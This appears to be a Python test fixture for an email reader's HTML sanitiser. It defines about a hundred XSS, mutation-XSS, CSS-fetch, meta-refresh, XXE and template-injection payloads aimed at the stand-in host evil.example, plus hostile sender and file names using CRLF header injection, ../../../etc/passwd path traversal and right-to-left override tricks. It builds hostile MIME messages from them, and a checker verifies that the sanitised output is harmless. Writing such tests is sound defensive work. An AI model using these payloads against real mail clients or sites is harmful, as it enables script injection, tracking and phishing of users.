"""Mail that tries to act in a reader's browser: payloads in wrappers, hostile names and fields.

Everything that would be fetched is at `EVIL`; everything that would run calls `alert` or sets
`window.owned`. From the payloads that broke other readers (FAULTS, F39, and their advisories).
"""

# ruff: noqa: E501 - a payload on a line is one that can be compared with its source
from __future__ import annotations

import base64
import re
from collections.abc import Iterator
from html.parser import HTMLParser

EVIL = "evil.example"
_E = f"https://{EVIL}"
_JS = "alert(1);window.owned=1;top.owned=1"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{_JS}</script>",
    "script-src": f'<script src="{_E}/x.js"></script>',
    "script-case": f"<ScRiPt\n>{_JS}</sCrIpT\t>",
    "img-onerror": f'<img src="data:image/png;base64,AAAA" onerror="{_JS}">',
    "img-remote": f'<img src="{_E}/p.png">',
    "img-relative": '<img src="//evil.example/p.png">',
    "img-srcset": f'<img srcset="{_E}/a.png 1x, {_E}/b.png 2x">',
    "img-lowsrc": f'<img lowsrc="{_E}/p.png" dynsrc="{_E}/p.avi">',
    "img-js": f'<img src="javascript:{_JS}">',
    "img-svg": "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\">"
    f"<image href=\"{_E}/i\"/></svg>'>",
    "picture": f'<picture><source srcset="{_E}/s.png"><img src="x"></picture>',
    "body-background": f'<body background="{_E}/b.png" onload="{_JS}">',
    "table-background": f'<table background="{_E}/t.png"><tr><td background="{_E}/c.png">x</table>',
    "style-tag": f"<style>body{{background:url({_E}/s.png)}}</style>",
    "style-import": f"<style>@import '{_E}/i.css';@import url({_E}/j.css);</style>",
    "style-font": f"<style>@font-face{{font-family:x;src:url({_E}/f.woff)}}*{{font-family:x}}</style>",
    "style-attribute": f'<div style="background:url({_E}/d.png)">x</div>',
    "style-escaped": f'<div style="background:\\75rl({_E}/d.png)">x</div>',
    "style-image-set": f"<div style=\"background-image:image-set('{_E}/d.png' 1x)\">x</div>",
    "style-content": f'<div style="content:url({_E}/d.png);cursor:url({_E}/c.cur),auto">x</div>',
    "style-list": f'<ul style="list-style:url({_E}/l.png)"><li>x</ul>',
    "style-mask": f'<p style="mask:url({_E}/m.svg#m);filter:url({_E}/f.svg#f)">x</p>',
    "style-expression": f'<p style="width:expression({_JS})">x</p>',
    "style-behavior": f'<p style="behavior:url({_E}/b.htc);-moz-binding:url({_E}/b.xml#x)">x</p>',
    "style-overlay": '<a style="position:fixed;inset:0;z-index:9999" href="https://evil.example">x</a>',
    "link-css": f'<link rel="stylesheet" href="{_E}/l.css">',
    "link-local": '<link rel="stylesheet" href="http://127.0.0.1:1/l.css">',
    "link-preload": f'<link rel="preload" as="image" href="{_E}/p.png">',
    "link-prefetch": f'<link rel="prefetch" href="{_E}/p"><link rel="dns-prefetch" href="//{EVIL}">',
    "link-preconnect": f'<link rel="preconnect" href="{_E}"><link rel="modulepreload" href="{_E}/m.js">',
    "link-icon": f'<link rel="icon" href="{_E}/favicon.ico"><link rel="manifest" href="{_E}/m.json">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={_E}/">',
    "meta-refresh-js": f'<meta http-equiv="refresh" content="0;url=javascript:{_JS}">',
    "meta-csp": "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">"
    f"<script>{_JS}</script>",
    "meta-cookie": '<meta http-equiv="Set-Cookie" content="holdfast-session=x">',
    "base": f'<base href="{_E}/"><img src="p.png"><a href="x">x</a>',
    "base-target": '<base target="_top"><a href="https://evil.example/">x</a>',
    "form": f'<form action="{_E}/f"><input name="p" type="password" autofocus onfocus="{_JS}"></form>',
    "form-button": f'<form id="f"></form><button form="f" formaction="javascript:{_JS}">x</button>',
    "input-image": f'<input type="image" src="{_E}/i.png"><isindex action="{_E}/i">',
    "iframe": f'<iframe src="{_E}/"></iframe>',
    "iframe-srcdoc": f"<iframe srcdoc='<script>{_JS}</script>'></iframe>",
    "iframe-js": f'<iframe src="javascript:{_JS}"></iframe>',
    "frameset": f'<frameset><frame src="{_E}/"></frameset>',
    "object": f'<object data="{_E}/o.swf"><param name="movie" value="{_E}/m"></object>',
    "embed": f'<embed src="{_E}/e.swf"><applet code="X" codebase="{_E}"></applet>',
    "object-data": f"<object data='data:text/html,<script>{_JS}</script>'></object>",
    "portal": f'<portal src="{_E}/"></portal><fencedframe src="{_E}/"></fencedframe>',
    "video": f'<video src="{_E}/v.mp4" poster="{_E}/p.png" autoplay onloadstart="{_JS}"></video>',
    "audio": f'<audio src="{_E}/a.mp3" autoplay><source src="{_E}/b.mp3"><track src="{_E}/t.vtt"></audio>',
    "svg-script": f"<svg><script>{_JS}</script></svg>",
    "svg-onload": f'<svg onload="{_JS}"></svg>',
    "svg-image": f'<svg><image href="{_E}/i.png" xlink:href="{_E}/j.png"/></svg>',
    "svg-feimage": f'<svg><filter id="f"><feImage href="{_E}/f.png"/></filter>'
    '<rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-use": f'<svg><use href="{_E}/u.svg#x"/></svg>',
    "svg-animate": f'<svg><a><animate attributeName="href" values="javascript:{_JS}"/><text>x</text></a></svg>',
    "svg-set": f'<svg><set attributeName="onmouseover" to="{_JS}"/></svg>',
    "svg-foreign": f'<svg><foreignObject><iframe src="javascript:{_JS}"></iframe></foreignObject></svg>',
    "svg-style": f"<svg><style>*{{fill:url({_E}/s.svg#x)}}</style><circle r='9'/></svg>",
    "math-href": f'<math href="javascript:{_JS}">x</math>',
    "math-annotation": f'<math><annotation-xml encoding="text/html"><script>{_JS}</script></annotation-xml></math>',
    "mxss-style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_JS}&gt;">',
    "mxss-form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={_JS}>">',
    "mxss-svg-style": f'<svg></p><style><a id="</style><img src=1 onerror={_JS}>">',
    "mxss-template": f"<template><img src=x onerror={_JS}></template>",
    "mxss-textarea": f"<textarea></textarea><img src=x onerror={_JS}></textarea>",
    "mxss-title": f'<title><a title="</title><img src=x onerror={_JS}>">',
    "mxss-xmp": f"<xmp><p title='</xmp><img src=x onerror={_JS}>'>",
    "mxss-comment": f"<!--><img src=x onerror={_JS}>-->",
    "mxss-cdata": f"<svg><![CDATA[><img src=x onerror={_JS}>]]></svg>",
    "mxss-select": f"<select><template><style><!--</style><a rel='--></style></template></select><img id=x src onerror={_JS}>'>",
    "conditional-comment": f"<!--[if gte mso 9]><script>{_JS}</script><![endif]--><![if !mso]><img src=x onerror={_JS}><![endif]>",
    "a-js": f'<a href="javascript:{_JS}">x</a>',
    "a-js-spaces": f'<a href=" &#1; j&#x0A;avascript:{_JS}">x</a>',
    "a-data": f"<a href='data:text/html,<script>{_JS}</script>'>x</a>",
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-ping": f'<a href="{_E}/" ping="{_E}/ping" target="_blank">x</a>',
    "a-bidi": '<a href="https://evil.example/\u202efdp.exe">invoice\u202efdp.exe</a>',
    "a-quote": f'<a href="https://x/&quot;&gt;&lt;img src=x onerror={_JS}&gt;">x</a>',
    "a-title": f"<a href='https://x/\"><img src=x onerror={_JS}>'>x</a>",
    "onevent-unquoted": f"<div onmouseover={_JS} onpointerrawupdate={_JS} onanimationstart={_JS}>x</div>",
    "onevent-slash": f"<img/src=x/onerror={_JS}//>",
    "onevent-newline": f"<img\nsrc=x\n\tonerror\n=\n{_JS}>",
    "onevent-nul": f"<img src=x on\x00error={_JS}><scr\x00ipt>{_JS}</scr\x00ipt>",
    "details": f"<details open ontoggle={_JS}>x</details>",
    "marquee": f"<marquee onstart={_JS}>x</marquee>",
    "popover": f'<button popovertarget=x>x</button><div popover id=x onbeforetoggle="{_JS}">x</div>',
    "dialog": f"<dialog open onclose={_JS}><form method=dialog><button>x</button></form></dialog>",
    "autofocus": f"<p contenteditable autofocus onfocus={_JS}>x</p>",
    "content-visibility": f"<p oncontentvisibilityautostatechange={_JS} style=content-visibility:auto>x</p>",
    "xss-utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "xss-fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "xss-overlong": "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "xss-isolates": "<scr\u2066ipt>alert(1)</scr\u2069ipt>\u202e<b>tpircs</b>",
    "entities": f"&lt;script&gt;{_JS}&lt;/script&gt;&#60;script&#62;{_JS}",
    "htmx": f'<p hx-get="{_E}/h" hx-trigger="load" hx-on:load="{_JS}" data-hx-get="/sign-out">x</p>',
    "htmx-partial": f'<hx-partial hx-target="body"><script>{_JS}</script></hx-partial>',
    "breakout": f"</div></article></main></iframe></body></html><script>{_JS}</script>",
    "breakout-pre": f"</pre></textarea></title></style></script><img src=x onerror={_JS}>",
    "jinja": "{{ 7*7 }}{% for x in y %}{{ config }}",
    "xml-entity": f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{_E}/e">]><x>&e;</x>',
    "xslt": f'<?xml-stylesheet href="{_E}/x.xsl" type="text/xsl"?><p>x</p>',
    "import-map": f'<script type="importmap">{{"imports":{{"x":"{_E}/x.js"}}}}</script>',
    "speculation": f'<script type="speculationrules">{{"prefetch":[{{"urls":["{_E}/s"]}}]}}</script>',
    "shadow": f'<div><template shadowrootmode="open"><img src="{_E}/s.png"><script>{_JS}</script></template></div>',
    "custom": f'<x-y onfocus="{_JS}" tabindex=0 is="z">x</x-y><slot onslotchange={_JS}>x</slot>',
    "deep": "<b>" * 300 + f"<img src=x onerror={_JS}>",
    "noscript": f'<noscript><img src="{_E}/n.png"><meta http-equiv=refresh content="0;{_E}"></noscript>',
}  # fmt: skip

WRAPPERS: dict[str, str] = {
    "bare": "{}",
    "whole": '<!DOCTYPE html><html><head><meta charset="utf-8">{0}</head><body>{0}</body></html>',
    "table": "<table><tr><td>{}</td></tr></table>",
}

NAMES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "a\r\nSet-Cookie: owned=1\r\n\r\n<script>alert(1)</script>",
    "../../../etc/passwd\x00.png",
    "\u202egpj.exe",
    "{{ 7*7 }}'\"`${7*7}",
)
"""In subjects, names of senders and names of files."""


def hostile_mails() -> Iterator[tuple[str, bytes]]:
    """Yield (name, message) of every payload in every wrapper."""
    number = 0
    for payload, hostile in PAYLOADS.items():
        for wrapper, form in WRAPPERS.items():
            name = NAMES[number % len(NAMES)]
            html = form.replace("{0}", hostile).replace("{}", hostile)
            yield f"{payload}-{wrapper}", hostile_mail(number, html, name)
            number += 1


def hostile_mail(number: int, html: str, name: str) -> bytes:
    """Return one message with this HTML, whose sender, subject and file have this name."""
    word = f"=?utf-8?B?{base64.b64encode(name.encode()).decode()}?="
    body = base64.encodebytes(html.encode("utf-8", "surrogatepass")).decode()
    lines = [
        f"Message-ID: <h{number}@{EVIL}>",
        f"From: {word} <h{number}@{EVIL}>",
        "To: li@our.example",
        f"Date: Tue, 5 Mar 2024 {number // 60 % 24:02d}:{number % 60:02d}:00 +0000",
        f"Subject: {word} hostile{number}",
        f"X-Hostile: {word}",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=h",
        "",
        "--h",
        "Content-Type: text/html; charset=utf-8",
        "Content-Transfer-Encoding: base64",
        "",
        body,
        "--h",
        f'Content-Type: text/html; name="{word}"',
        f'Content-Disposition: attachment; filename="{word}"',
        "",
        f"<script>alert(1)</script><img src=https://{EVIL}/a.png>",
        "--h--",
        "",
    ]
    return "\n".join(lines).encode("utf-8", "surrogatepass")


_FETCHING = re.compile(r"\b(src|srcset|href|background|poster|action|data|ping)\b", re.I)
DANGEROUS = {
    "script", "style", "svg", "math", "link", "meta", "base", "form", "input", "button", "iframe",
    "frame", "object", "embed", "video", "audio", "source", "template", "noscript", "textarea",
    "title", "select", "dialog", "portal",
}  # fmt: skip


class Found(HTMLParser):
    """What a parser of another make sees in the result."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    """F39: nothing in it runs, and nothing is fetched.

    Raises:
        AssertionError: Names a tag or an attribute that could.
    """
    found = Found(html)
    left = sorted(found.tags & DANGEROUS)
    assert not left, f"left: {left}"
    for tag, name, value in found.attributes:
        assert not name.startswith(("on", "hx-", "data-", "xlink")), (tag, name)
        if name == "src":
            assert value.startswith("data:image/"), value
            assert "svg" not in value
        elif name == "style":
            assert not re.search(r"url|@import|expression|position|\\", value, re.I), value
        else:
            assert not _FETCHING.fullmatch(name), (tag, name)
